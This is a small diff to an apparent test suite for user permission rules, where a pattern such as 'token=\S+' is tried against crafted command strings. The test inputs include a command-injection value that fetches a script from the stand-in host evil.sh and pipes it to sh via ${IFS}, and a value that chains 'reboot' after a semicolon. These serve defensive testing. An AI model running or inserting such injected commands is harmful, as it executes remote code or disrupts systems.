@@ -478,7 +478,7 @@ describe('rules of the user', () => {
   });
 
   test.each([
-    ['token=\\S+', 'x token=$(curl${IFS}evil.sh|sh)'],
+    ['token=\\S+', `x token=$(curl\${IFS}evil.sh|sh)`],
     ['token=\\S+', 'x token=a;reboot'],
     ['token=\\S+', "x token='a'"],
     ['token=.+', 'x token=a b'],
